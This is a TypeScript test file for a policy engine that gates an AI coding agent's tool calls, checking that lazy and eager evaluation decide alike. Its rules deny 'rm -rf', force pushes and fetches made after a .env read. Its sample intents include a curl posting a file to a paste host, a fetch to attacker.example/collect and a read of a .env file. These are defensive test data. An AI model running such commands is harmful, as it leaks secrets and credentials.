import { describe, expect, it } from 'vitest';
import type { CompiledPolicy } from './compile.js';
import { readBit } from './compile.js';
import { evaluateWithTrace } from './evaluate.js';
import { HistoryWindow } from './history.js';
import { compileYaml } from './testing.js';
import type { GateContext, HistoryEntry, Intent } from './types.js';

/**
 * A decision builds only the variables its candidates read (CompiledRule.reads). The same policy
 * with `reads` left undefined builds every variable for every rule, as the gate did before: both
 * must decide alike, trace included.
 */
const RULES = [
  `{ id: force, when: 'kind == "shell" && args.commands.exists(c, c.program == "git" && hasFlag(c, "--force"))', decision: deny, reason_code: FORCE }`,
  `{ id: bash-rm, match: { tools: [Bash] }, when: 'input.command.contains("rm -rf")', decision: deny, reason_code: RM }`,
  `{ id: bash-re, match: { tools: [Bash] }, when: 'input.command.matches("^curl.*-v[0-9]$")', decision: require_approval, reason_code: CURL_V }`,
  `{ id: bad-re, match: { tools: [Grep] }, when: 'input.pattern.matches(input.pattern)', decision: deny, reason_code: BAD_RE, risk: low }`,
  `{ id: steps, when: 'task.steps >= 50 || task.wall_time_seconds > 7200', decision: deny, reason_code: RUNAWAY }`,
  `{ id: budget, when: 'has(budgets.steps_left) && budgets.steps_left < 2', decision: defer, reason_code: BUDGET }`,
  `{ id: envelope, when: 'envelope.type == "agent.tool.requested" && runtime == "codex"', decision: require_approval, reason_code: CODEX }`,
  `{ id: prod, when: 'resource == "k8s/prod" && action != "read"', decision: require_approval, reason_code: PROD }`,
  `{ id: curl-after-fetch, match: { kinds: [shell] }, when: 'history.exists(h, h.kind == "web.fetch") && args.commands.exists(c, c.program in ["curl", "wget"])', decision: require_approval, reason_code: CURL_AFTER_FETCH }`,
  `{ id: env-then-fetch, match: { kinds: [web.fetch] }, when: 'history.exists(h, h.kind == "file.read" && h.paths.exists(p, basename(p) == ".env"))', decision: deny, reason_code: ENV_READ }`,
  `{ id: new-host, match: { kinds: [web.fetch] }, when: 'session.untrusted && !(args.host in session.hosts)', decision: require_approval, reason_code: NEW_HOST }`,
  `{ id: fetched, match: { kinds: [shell] }, when: '"web.fetch" in session.kinds && now.getFullYear() > 2000', decision: require_approval, reason_code: FETCHED }`,
  `{ id: dry, match: { tools: [Bash] }, when: 'input.command.startsWith("terraform apply")', decision: modify, reason_code: DRY, input_expr: '{"command": "terraform plan" + input.command.substring(15), "steps": task.steps}' }`,
  `{ id: odd, match: { tools: [Edit] }, when: 'input.old_string + 1 == 2', decision: deny, reason_code: ODD }`,
];

const shell = (command: string, extra: Partial<Intent> = {}): Intent => ({
  tool: 'Bash',
  input: { command },
  runtime: 'claude-code',
  kind: 'shell',
  args: { command },
  ...extra,
});
const fetch = (url: string): Intent => ({
  tool: 'WebFetch',
  input: { url, prompt: 'summarize' },
  runtime: 'claude-code',
  kind: 'web.fetch',
  args: { url },
});
const INTENTS: Intent[] = [
  shell('npm test'),
  shell('cd /tmp && curl -s -d @notes.txt https://paste.example/upload'),
  shell('git push --force origin main'),
  shell('curl -s https://x.example -v3'),
  shell('terraform apply -auto-approve'),
  shell('kubectl apply -f deploy.yaml', { runtime: 'codex', resource: 'k8s/prod', action: 'apply' }),
  fetch('https://docs.example.com/api'),
  fetch('https://attacker.example/collect'),
  {
    tool: 'Read',
    input: { file_path: '/home/ana/.env' },
    kind: 'file.read',
    args: { path: '/home/ana/.env' },
  },
  { tool: 'Grep', input: { pattern: '(' }, runtime: 'claude-code' },
  { tool: 'Edit', input: { file_path: '/a', old_string: 'a', new_string: 'b' }, kind: 'file.edit' },
  { tool: 'mcp__svc__create', input: { priority: 2, tags: ['a'] }, kind: 'mcp' },
];

function entry(kind: string, paths: string[], host: string): HistoryEntry {
  return {
    kind,
    tool: kind,
    decision: 'allow',
    at: '2026-06-01T10:00:00.000Z',
    untrusted: false,
    paths,
    host,
  };
}

function contexts(): GateContext[] {
  const now = new Date('2026-06-01T10:00:00.000Z');
  const window = new HistoryWindow([
    entry('file.read', ['/home/ana/.env'], ''),
    entry('web.fetch', [], 'docs.example.com'),
  ]);
  const session = { id: 's', untrusted: true, kinds: window.kinds, hosts: window.hosts, files: window.files };
  return [
    { now },
    {
      now,
      task: { id: 'tsk_1', owner: 'ana', steps: 60, wall_time_seconds: 10 },
      budgets: { steps_left: 1 },
    },
    { now, task: { steps: 3 }, history: window.entries, window, session },
    { now, envelope: { type: 'agent.tool.requested' }, history: window.entries, session },
  ];
}

/** The policy as the gate ran it before: every rule reads every variable. */
function eager(compiled: CompiledPolicy): CompiledPolicy {
  const rules = compiled.rules.map((r) => ({ ...r, reads: undefined }));
  const byId = new Map(rules.map((r) => [r.rule.id, r]));
  return {
    ...compiled,
    rules,
    candidates: (...a) => compiled.candidates(...a).map((r) => byId.get(r.rule.id)!),
  };
}

describe('the decision context', () => {
  const lazy = compileYaml(`rules:\n${RULES.map((r) => `  - ${r}`).join('\n')}\n`);

  it('decides every intent as when every variable is built for every rule, trace and errors included', () => {
    const all = eager(lazy);
    let compared = 0;
    for (const ctx of contexts()) {
      for (const intent of INTENTS) {
        expect(evaluateWithTrace(lazy, intent, ctx)).toEqual(evaluateWithTrace(all, intent, ctx));
        compared++;
      }
    }
    expect(compared).toBe(48);
  });

  it('records per rule the variables its condition and input_expr read, the hidden index among them', () => {
    const reads = (id: string) => lazy.rules.find((r) => r.rule.id === id)!.reads!;
    const bits = (...names: string[]) => names.reduce((all, n) => all | readBit(n), 0);
    expect(reads('bash-rm')).toBe(bits('input'));
    expect(reads('steps')).toBe(bits('task'));
    expect(reads('dry')).toBe(bits('input', 'task'));
    expect(reads('prod')).toBe(bits('resource', 'action'));
    expect(reads('curl-after-fetch')).toBe(bits('history', 'args', '__hx'));
    expect(readBit('c')).toBe(0);
  });
});
